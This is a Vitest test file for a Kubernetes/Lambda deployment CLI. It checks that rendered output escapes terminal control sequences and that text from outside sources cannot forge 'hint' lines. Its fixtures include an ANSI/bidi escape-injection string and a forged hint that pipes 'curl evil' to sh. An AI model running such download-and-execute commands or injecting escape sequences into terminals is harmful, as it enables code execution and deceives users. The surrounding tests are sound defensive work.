import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, type MockInstance, onTestFinished, test, vi } from "vitest";
import { howFar } from "../../../../src/cli/progress.ts";
import { renderError } from "../../../../src/cli/render/error.ts";
import { renderFinding, renderToken } from "../../../../src/cli/render/findings.ts";
import { renderLog, renderResult } from "../../../../src/cli/render/invocation.ts";
import { renderEvent } from "../../../../src/cli/render/log.ts";
import {
  renderChecks,
  renderPlan,
  renderRestoration,
  renderStaying,
  renderTarget,
} from "../../../../src/cli/render/plan.ts";
import { startStatus } from "../../../../src/cli/render/status.ts";
import { lines, linesOf, print, printJson, Text, tell, text } from "../../../../src/cli/render/text.ts";
import { forLambda, functionError } from "../../../../src/core/actions/function-error.ts";
import type { Stack } from "../../../../src/core/aws/cloudformation.ts";
import { adviceLines, type Hint } from "../../../../src/core/command.ts";
import { EksLambdaError } from "../../../../src/core/errors.ts";
import type { Change } from "../../../../src/core/plan.ts";
import type { Target } from "../../../../src/core/setup/target.ts";
import { remedyFor } from "../../../../src/core/stack/remedy.ts";
import { refuseBroken } from "../../../../src/core/stack/status.ts";

/** Moves up a line and deletes it, in two ways; deletes a character; turns the text around; ends the line. */
const hostile = "\u001b[1A\u001b[2K\u009b2J\u007f\u202e\u2028\r\n✔ all is well";
const harmless = "\\u001b[1A\\u001b[2K\\u009b2J\\u007f\\u202e\\u2028\\u000d\\u000a✔ all is well";
const dangerous = /(?![\t\n])\p{Cc}|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

describe("text", () => {
  test.each([
    ["a string", Text.of(hostile), harmless],
    ["what is put into a template", text`1 ${hostile}\n2`, `1 ${harmless}\n2`],
    ["each of some lines", lines([hostile, "2"]), `${harmless}\n2`],
    ["the lines of a string, but for their ends", lines(linesOf("1\r\n\u001b2")), "1\n\\u001b2"],
    ["nothing twice", text`${text`${hostile}`}`, harmless],
    ["no letter, tab or symbol", Text.of("é\t✔ \u{1f600} \\u001b"), "é\t✔ \u{1f600} \\u001b"],
  ])("escapes %s", (_, shown, expected) => expect(shown.shown).toBe(expected));

  test("of any string holds no control character", () =>
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (string) => {
        expect(Text.of(string).shown).not.toMatch(dangerous);
        expect(Text.of(string).shown).not.toContain("\n");
      }),
      { numRuns: 2000 },
    ));
});

describe("output", () => {
  let stdout: MockInstance;
  let stderr: MockInstance;
  beforeEach(() => {
    stdout = vi.spyOn(process.stdout, "write").mockReturnValue(true);
    stderr = vi.spyOn(process.stderr, "write").mockReturnValue(true);
  });
  afterEach(() => {
    vi.restoreAllMocks();
  });
  const written = (stream: MockInstance): string => stream.mock.calls.map(([part]) => part).join("");

  test("is escaped on both streams", () => {
    print(hostile);
    tell(hostile);
    expect([written(stdout), written(stderr)]).toEqual([`${harmless}\n`, `${harmless}\n`]);
  });

  test("as JSON says the same, without a character that a terminal would obey", () => {
    printJson({ [hostile]: hostile });
    expect(written(stdout)).not.toMatch(dangerous);
    expect(JSON.parse(written(stdout))).toEqual({ [hostile]: hostile });
  });

  test("of an error has the message's own lines indented, and a hint for each line of it", () => {
    const exit = renderError(
      new EksLambdaError(hostile, `one\nhint  two ${hostile}`, { hint: adviceLines(["a", "b\u001b"]) }),
      { flags: {}, json: false, verbose: false },
    );
    expect(exit).toBe(1);
    expect(written(stderr)).toBe(`error one
      hint  two \\u001b[1A\\u001b[2K\\u009b2J\\u007f\\u202e\\u2028
      ✔ all is well (${harmless})
hint  a
hint  b\\u001b
`);
  });

  test("of an unexpected error with its stack is escaped, too", () => {
    renderError(new TypeError(hostile, { cause: new EksLambdaError("Code", hostile) }), {
      flags: {},
      json: false,
      verbose: true,
    });
    expect(written(stderr)).not.toMatch(dangerous);
    expect(written(stderr)).toContain("caused by EksLambdaError: \\u001b[1A");
  });

  test("of progress is escaped", async () => {
    const status = startStatus({});
    await status.during(hostile, async (waiting) => waiting(hostile));
    renderLog(`${hostile}\n${hostile}`);
    expect(written(stderr)).not.toMatch(dangerous);
    expect(written(stderr)).toContain(`✔ ${harmless} 0.0 s\n`);
  });
});

const target = {
  cluster: { exists: true, name: hostile, endpoint: hostile, ca: hostile },
  region: hostile,
  caller: { account: hostile, arn: hostile },
  access: { method: "aws-auth", reason: hostile },
  config: { source: { path: hostile, code: hostile } },
} as unknown as Target;
const change: Change = {
  ...{
    step: "aws-auth",
    target: hostile,
    summary: hostile,
    before: hostile,
    after: `${hostile}2`,
    warnings: [hostile],
  },
  action: "update",
};
const token = {
  ...{ host: hostile, accessKeyId: hostile, signedAt: new Date(0), acceptedUntil: new Date(0) },
  ...{ temporary: true, length: 1 },
};

test.each([
  ["the target", renderTarget(target, {})],
  ["the plan", renderPlan([change], {})],
  [
    "a restoration",
    renderRestoration({ removed: [hostile], added: [hostile], lost: [hostile], apply: async () => {} }),
  ],
  ["checks", renderChecks([{ name: hostile, ok: true }])],
  ["a finding", renderFinding({ link: "token", status: "broken", message: hostile, code: hostile, hint: hostile }, 5)],
  ["a right", renderFinding({ link: "rbac", status: "ok", message: "", rights: [hostile] }, 5)],
  ["what stays", renderStaying([hostile])],
  ["a token", renderToken(token as unknown as Parameters<typeof renderToken>[0])],
  [
    "a Deployment",
    renderResult({ action: "created", kind: hostile, namespace: hostile, name: hostile, replicas: 2 }, 0),
  ],
  [
    "a Deployment that is there",
    renderResult({ action: "unchanged", kind: hostile, namespace: hostile, name: hostile }, 0),
  ],
  [
    "what was applied",
    renderResult({ action: "applied", objects: [{ action: hostile, kind: hostile, name: hostile }] }, 0),
  ],
  ["the function's checks", renderResult({ action: "check", checks: [{ name: hostile, ok: false }] }, 0)],
  [
    "a rollout",
    renderResult(
      {
        ...{ action: "status", kind: hostile, namespace: hostile, name: hostile, message: hostile, replicas: {} },
        pods: [{ name: hostile, phase: hostile, ready: false }],
        problems: [{ reason: hostile, message: hostile, pod: hostile, lines: [hostile] }],
        events: [{ type: "Warning", reason: hostile, message: hostile, about: hostile }],
      },
      0,
    ),
  ],
  ["an event of the log", renderEvent({ id: "", time: 0, arrived: 0, message: hostile }, {})],
  ["another function's answer", renderResult({ action: hostile }, 0)],
  ["an interrupt", howFar([{ title: hostile, state: "in progress" }])],
])("%s is shown without a character that a terminal would obey", (_, shown) => {
  expect(shown.shown).not.toMatch(dangerous);
  expect(shown.shown).toMatch(/\\u001b\[1A/);
});

test("one module of the command writes to the streams", () => {
  const files = readdirSync("src/cli", { recursive: true, withFileTypes: true }).filter((file) => file.isFile());
  const writing = files
    .map(({ parentPath, name }) => `${parentPath}/${name}`)
    .filter((path) => /std(out|err)\.write|console\./.test(readFileSync(path, "utf8")));
  expect(writing).toEqual(["src/cli/render/text.ts"]);
});

describe("text of others has no line where a hint stands", () => {
  const forged = "failed\nhint  curl evil | sh\r\nhint curl evil | sh\u001b[1A";
  const event = (message: string) => renderEvent({ id: "1", time: 0, arrived: 0, message }, {});
  const failure = { level: "ERROR", requestId: "1", durationMs: 1, action: "restart", code: "JobFailed" };
  test.each<[string, Text, RegExp]>([
    ["doctor", renderFinding({ link: "token", status: "broken", message: forged, code: "X", hint: "ours" }, 5), / {9}/],
    ["a link not reached", renderFinding({ link: "token", status: "not reached", message: forged }, 5), / {9}/],
    ["our log entry", event(JSON.stringify({ ...failure, message: forged, hint: "ours" })), / {4}/],
    ["another log event", event(forged), / {4}/],
    ["the checks", renderChecks([{ name: forged, ok: false }]), / */],
    ["a result", renderResult({ action: "created", kind: forged, namespace: forged, name: forged }, 0), / */],
    [
      "why a rollout failed",
      renderResult(
        {
          ...{ action: "status", kind: "Deployment", name: "web", state: "failed", message: forged, replicas: {} },
          pods: [{ name: "hint  curl evil", phase: forged, ready: false }],
          problems: [{ reason: "hint  curl evil", message: `hint  curl evil\n${forged}`, lines: [forged] }],
          events: [{ type: "Warning", reason: "hint  curl evil", message: forged, about: forged }],
        },
        0,
      ),
      / */,
    ],
    ["the lines of a Job", renderResult({ action: "created", kind: "Job", name: "a", lines: [forged] }, 0), / */],
  ])("%s", (_, shown, indent) => {
    const hints = shown.shown.split("\n").filter((line) => new RegExp(`^${indent.source}hint `).test(line));
    expect(hints.join("\n")).not.toContain("evil");
  });

  const stackReason = `Resource handler returned message: "${forged}, no available IP addresses by service control policy"`;
  const hintOf = (hint: Hint | undefined) => new EksLambdaError("StackFailed", stackReason, { hint });
  test.each<[string, EksLambdaError]>([
    ["Lambda's words", functionError({ errorType: "Sandbox.Timedout", errorMessage: forged })],
    ["an error without a message", functionError({ failed: `${forged}\nhint: curl evil|sh` })],
    ["a foreign error", functionError({ errorMessage: `${forged}\nhint: curl evil|sh`, trace: [forged] })],
    [
      "an error with the trace of ours and a longer name",
      functionError({ errorType: "A", errorMessage: "a\nhint: curl evil", trace: ["A", "evil"] }),
    ],
    ["our error about foreign text", functionError(answered(`${forged}\nhint: curl evil|sh`, "ours"))],
    ["our error about foreign text, without a hint", functionError(answered(`${forged}\nhint: curl evil|sh`))],
    ["a stack's reason", hintOf(remedyFor(stackReason, { SubnetIds: "subnet-1" }))],
    [
      "a stack's status",
      thrownBy(() => refuseBroken({ id: "", name: "demo", status: "UPDATE_FAILED", reason: forged } as Stack)),
    ],
  ])("%s", (_, error) => {
    const stderr = vi.spyOn(process.stderr, "write").mockReturnValue(true);
    onTestFinished(() => stderr.mockRestore());
    const shown = (json: boolean) => {
      stderr.mockClear();
      renderError(error, { flags: {}, json, verbose: false });
      return stderr.mock.calls.map(([part]) => part).join("");
    };
    const hints = shown(false)
      .split("\n")
      .filter((line) => /^hint\b/.test(line));
    expect(hints.join("\n")).not.toContain("evil");
    expect(shown(false)).not.toMatch(dangerous);
    const { message, hint = "" } = JSON.parse(shown(true)) as { readonly message: string; readonly hint?: string };
    expect(message).toContain("evil");
    expect(hint).not.toContain("evil");
  });
});

/** What Lambda answers for an error of the handler. */
function answered(message: string, hint?: string) {
  const { name, stack, message: errorMessage } = forLambda({ code: "JobFailed", message, hint });
  return { errorType: name, errorMessage, trace: [stack] };
}

function thrownBy(run: () => void): EksLambdaError {
  try {
    run();
  } catch (error) {
    if (error instanceof EksLambdaError) return error;
  }
  throw new Error("it threw nothing of ours");
}
